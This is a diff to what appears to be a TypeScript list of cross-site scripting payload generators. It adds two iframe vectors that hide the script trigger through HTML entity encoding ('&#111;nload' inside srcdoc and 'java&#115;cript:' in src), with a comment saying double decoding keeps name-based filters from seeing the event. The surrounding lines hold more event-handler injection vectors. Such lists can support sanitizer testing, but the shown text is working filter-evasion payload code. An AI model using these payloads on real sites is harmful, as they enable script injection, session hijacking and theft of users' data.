@@ -66,6 +66,20 @@ export const VECTORS: readonly Vector[] = [
     write: ({ code }, { space, close, dressed }) =>
       `<${dressed('iframe')}${space}${dressed('srcdoc')}=&lt;svg/onload=${code}&gt;${close}`,
   },
+  // Decoded twice: no filter of names sees the event.
+  {
+    tag: 'iframe',
+    event: null,
+    itself: true,
+    write: ({ code }, { space, close, dressed }) =>
+      `<${dressed('iframe')}${space}srcdoc=&lt;svg/&#111;nload=${code}&gt;${close}`,
+  },
+  {
+    tag: 'iframe',
+    event: null,
+    itself: true,
+    write: ({ code }, { space, close, dressed }) => `<${dressed('iframe')}${space}src=java&#115;cript:${code}${close}`,
+  },
   vector('p', 'oncontentvisibilityautostatechange', 'style=display:block;content-visibility:auto'),
   vector('svg><animate', 'onbegin', 'attributeName=x dur=1s'),
   vector('style', 'onload', ''),
